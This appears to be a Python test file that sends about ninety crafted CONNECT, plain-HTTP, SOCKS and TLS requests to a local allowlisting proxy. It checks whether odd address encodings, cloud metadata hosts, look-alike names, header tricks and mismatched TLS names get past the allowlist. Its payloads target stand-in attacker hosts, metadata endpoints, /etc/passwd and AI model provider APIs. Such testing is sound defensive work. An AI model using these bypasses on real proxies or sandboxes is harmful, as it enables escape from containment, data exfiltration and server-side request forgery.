"""Ways through the proxy: odd targets, odd heads, other names inside a tunnel."""

import socket
import ssl

from . import ATTACKER, each, technique

# Through the proxy.


def proxy(*pieces):
    """Sends bytes to the proxy; what it answers."""
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as stream:
        for piece in pieces:
            stream.sendall(piece)
        stream.shutdown(socket.SHUT_WR)
        answer = b""
        while piece := stream.recv(4096):
            answer += piece
        return answer


def connect(target, *more):
    return b"".join([f"CONNECT {target} HTTP/1.1\r\n".encode(), *more, b"\r\n"])


ALLOWED = "index.test:443"
HEADS = {
    "a host that is not allowed": connect("evil.test:443"),
    "a name below an allowed one": connect("a.index.test:443"),
    "a name that ends like an allowed one": connect("evilindex.test:443"),
    "a name that begins like an allowed one": connect("index.test.evil.test:443"),
    "another port of an allowed host": connect("index.test:22"),
    "an address": connect(f"{ATTACKER}:443"),
    "an address as one number, by the proxy": connect("3405803842:443"),
    "an address in hexadecimal, by the proxy": connect("0xcb007142:443"),
    "an address in octal, by the proxy": connect("0313.0.0161.0102:443"),
    "a short address": connect("127.1:8080"),
    "an IPv6 address": connect("[::1]:8080"),
    "IPv4 in an IPv6 address": connect(f"[::ffff:{ATTACKER}]:443"),
    "IPv4 in a NAT64 address": connect("[64:ff9b::cb00:7142]:443"),
    "an address with a zone": connect("[fe80::1%25lo]:443"),
    "the machine's loopback": connect("127.0.0.1:8080"),
    "the machine's loopback, by name": connect("localhost:8080"),
    "the unspecified address": connect("0.0.0.0:8080"),
    "metadata": connect("169.254.169.254:80"),
    "metadata, as one number": connect("2852039166:80"),
    "metadata, by name": connect("metadata.google.internal:80"),
    "the proxy itself": connect("127.0.0.1:3128"),
    "a provider of models": connect("api.openai.com:443"),
    "another provider of models": connect("api.anthropic.com:443"),
    "a name that resolves to the loopback": connect("loop.test:443"),
    "a name that resolves to IPv6's loopback": connect("loop6.test:443"),
    "a name that resolves to a private address": connect("inner.test:443"),
    "a name that resolves to a carrier's address": connect("carrier.test:443"),
    "a name that resolves to metadata": connect("meta.test:443"),
    "a name that resolves to a link's own address": connect("link.test:443"),
    "a name that resolves to documentation's": connect("doc.test:443"),
    "a name that resolves to the unspecified address": connect("zero.test:443"),
    "a name that resolves to multicast": connect("multi.test:443"),
    "a name that resolves to a unique local address": connect("ula.test:443"),
    "a name that resolves to IPv4 in IPv6": connect("mapped.test:443"),
    "a name that resolves to NAT64": connect("nat64.test:443"),
    "a name that resolves to 6to4": connect("six.test:443"),
    "a trailing dot": connect("evil.test.:443"),
    "a trailing dot on an allowed name": connect("index.test.:443"),
    "an allowed name as a user": connect("index.test:443@evil.test:443"),
    "an allowed name before a hash": connect("evil.test#.index.test:443"),
    "an allowed name after a slash": connect("evil.test/index.test:443"),
    "an allowed name after a backslash": connect("evil.test\\index.test:443"),
    "an allowed name after a zero byte": connect("evil.test\0index.test:443"),
    "an encoded dot": connect("evil%2etest:443"),
    "an encoded zero byte": connect("index.test%00.evil.test:443"),
    "a full-width letter": connect("ｅvil.test:443"),
    "an ideographic full stop": connect("evil。test:443"),
    "a Cyrillic letter": connect("іndex.test:443"),
    "an invisible letter": connect("index\u200b.test:443"),
    "a wildcard": connect("*.test:443"),
    "an underscore": connect("_x.index.test:443"),
    "an empty host": connect(":443"),
    "an empty port": connect("index.test:"),
    "a port beyond all": connect("index.test:65979"),
    "a port with a sign": connect("index.test:+443"),
    "a port with a zero": connect("index.test:0443"),
    "two ports": connect("index.test:443:443"),
    "an allowed Host header": connect("evil.test:443", b"Host: index.test:443\r\n"),
    "another Host header": connect(ALLOWED, b"Host: evil.test:443\r\n"),
    "two Host headers": connect(ALLOWED, b"Host: index.test:443\r\n", b"Host: evil.test:443\r\n"),
    "a line feed without a return": b"CONNECT index.test:443 HTTP/1.1\nHost: evil.test\r\n\r\n",
    "a header folded over two lines": connect(ALLOWED, b"X: a\r\n Host: evil.test\r\n"),
    "a space before a colon": connect(ALLOWED, b"Host : evil.test:443\r\n"),
    "a tab in the request line": b"CONNECT\tevil.test:443 HTTP/1.1\r\n\r\n",
    "two spaces in the request line": b"CONNECT  evil.test:443 HTTP/1.1\r\n\r\n",
    "a method in small letters": b"connect evil.test:443 HTTP/1.1\r\n\r\n",
    "no version": b"CONNECT evil.test:443\r\n\r\n",
    "version 2": b"CONNECT evil.test:443 HTTP/2\r\n\r\n",
    "HTTP/2's preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "plain HTTP": b"GET http://evil.test/out HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "plain HTTP to an address": f"GET http://{ATTACKER}/out HTTP/1.1\r\n\r\n".encode(),
    "plain HTTP to metadata": b"GET http://169.254.169.254/latest HTTP/1.1\r\n\r\n",
    "plain HTTP to an allowed host's other port": b"GET http://index.test/out HTTP/1.1\r\n\r\n",
    "plain HTTP with another Host header": b"GET http://index.test:443/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "plain HTTP with a user": b"GET http://index.test@evil.test/ HTTP/1.1\r\n\r\n",
    "a request without a scheme": b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "https as a scheme": b"GET https://evil.test/out HTTP/1.1\r\n\r\n",
    "ftp as a scheme": b"GET ftp://evil.test/out HTTP/1.1\r\n\r\n",
    "file as a scheme": b"GET file:///etc/passwd HTTP/1.1\r\n\r\n",
    "a second request behind a refused one": connect("evil.test:443") + connect("evil.test:443"),
    "an upgrade to HTTP/2": b"GET http://evil.test/ HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
    "a WebSocket": b"GET http://evil.test/ HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "SOCKS 5": b"\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb\r\n\r\n",
    "SOCKS 4": b"\x04\x01\x01\xbb\xcb\x00\x71\x42\0\r\n\r\n",
    "TLS to the proxy": b"\x16\x03\x01\0\x05\x01\0\0\x01\0\r\n\r\n",
    "a head without an end": b"CONNECT evil.test:443 HTTP/1.1\r\nX: " + b"a" * 20000,
    "a long name": connect("a" * 300 + ".test:443"),
}  # fmt: skip


@each({f"proxy: {name}": head for name, head in HEADS.items()})
def through_proxy(head):
    answer = proxy(head)
    return answer.startswith((b"HTTP/1.1 2", b"\x05\0", b"\0\x5a", b"\x16")) and answer[:200].decode(errors="replace")


def hello(name):
    """A ClientHello as Python makes it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    shaking = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        shaking.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


INSIDE = {
    "another name in the ClientHello": lambda: hello("evil.test"),
    "no name in the ClientHello": lambda: hello(None),
    "a name below in the ClientHello": lambda: hello("a.index.test"),
    "plain HTTP in a tunnel": lambda: b"GET / HTTP/1.1\r\nHost: index.test\r\n\r\n",
    "SSH in a tunnel": lambda: b"SSH-2.0-x\r\n",
    "nothing in a tunnel": lambda: b"",
    "an alert in a tunnel": lambda: b"\x15\x03\x03\0\x02\x01\0",
    "TLS of another version": lambda: b"\x16\x02" + hello("index.test")[2:],
}


@each({f"tunnel: {name}": make for name, make in INSIDE.items()})
def in_tunnel(make):
    answer = proxy(connect(ALLOWED), make())
    return answer.split(b"\r\n\r\n", 1)[1]


@technique("tunnel: another name, sent with the head")
def early_hello():
    answer = proxy(connect(ALLOWED) + hello("evil.test"))
    return answer.split(b"\r\n\r\n", 1)[1]


CONTROL = "the allowed host, as it should be"


@technique(CONTROL)
def control():
    return proxy(connect(ALLOWED), hello("index.test")).split(b"\r\n\r\n", 1)[1][:1]
